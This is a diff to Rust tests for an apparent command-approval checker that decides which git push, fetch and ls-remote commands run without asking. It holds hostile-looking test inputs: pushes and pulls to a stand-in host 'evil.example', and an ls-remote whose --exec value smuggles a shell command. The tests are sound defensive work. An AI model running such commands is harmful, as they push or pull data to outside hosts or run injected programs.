@@ -23,6 +23,7 @@ fn a_git_subcommand_rule_does_not_cover_arguments_that_run_programs() {
         work.path(),
         &["rebase", "submodule", "bisect", "push", "fetch", "difftool", "config", "clone", "init"],
     );
+    with_remote(work.path(), "origin");
     for plain in ["git rebase main", "git push origin main", "git fetch --all", "git bisect good"] {
         assert!(auto_lifts(&covered, plain), "{plain}");
     }
@@ -237,6 +238,7 @@ fn a_directory_git_takes_for_a_repository_by_its_commondir_is_not_the_pinned_one
 #[test]
 fn a_git_network_rule_covers_named_remotes_not_urls() {
     let work = repository();
+    with_remote(work.path(), "origin");
     let covered = git_subcommand_rules(work.path(), &["push", "fetch", "pull", "ls-remote"]);
     for named in [
         "git push",
@@ -244,7 +246,7 @@ fn a_git_network_rule_covers_named_remotes_not_urls() {
         "git push origin main:main",
         "git push -o ci.skip origin HEAD:refs/heads/x",
         "git push --force-with-lease=main:abc origin main",
-        "git push ../backup.git main",
+        "git push -fu origin main",
         "git fetch --all",
         "git fetch --depth 1 origin",
         "git fetch -j 4 origin main:refs/remotes/origin/main",
@@ -271,6 +273,39 @@ fn a_git_network_rule_covers_named_remotes_not_urls() {
             "git pull -X ours https://evil.example/x.git main",
             "git ls-remote https://evil.example/x.git",
             "git push origin \"$BRANCH\"",
+            // An option whose value may be the next word.
+            "git push --recurse-submodules no git://evil.example/x.git HEAD",
+            "git push --frobnicate origin",
+            "git push --for origin main",
+            "git ls-remote --exec='touch /outside/f; git-upload-pack' origin",
         ],
     );
+}
+
+/// A name that is not one of the repository's remotes is not covered (git would take it
+/// for a path), though "always" may offer the rule for a name that is.
+#[test]
+fn a_git_network_rule_covers_only_the_repositorys_own_remotes() {
+    let work = repository();
+    with_remote(work.path(), "origin");
+    let covered = git_subcommand_rules(work.path(), &["push", "fetch"]);
+    for line in ["git push upstream main", "git push ../backup.git main", "git fetch evil"] {
+        assert!(!auto_lifts(&covered, line), "{line}");
+        assert!(
+            matches!(assess_shell(&covered, Mode::Ask, line), Assessment::Ask { .. }),
+            "{line}"
+        );
+    }
+    with_remote(work.path(), "upstream");
+    assert!(auto_lifts(&covered, "git push upstream main"));
+}
+
+/// `git remote add NAME`, a remote of the repository at `work`.
+fn with_remote(work: &Path, name: &str) {
+    let status = std::process::Command::new("git")
+        .args(["remote", "add", name, "https://example.org/r.git"])
+        .current_dir(work)
+        .status()
+        .unwrap();
+    assert!(status.success());
 }
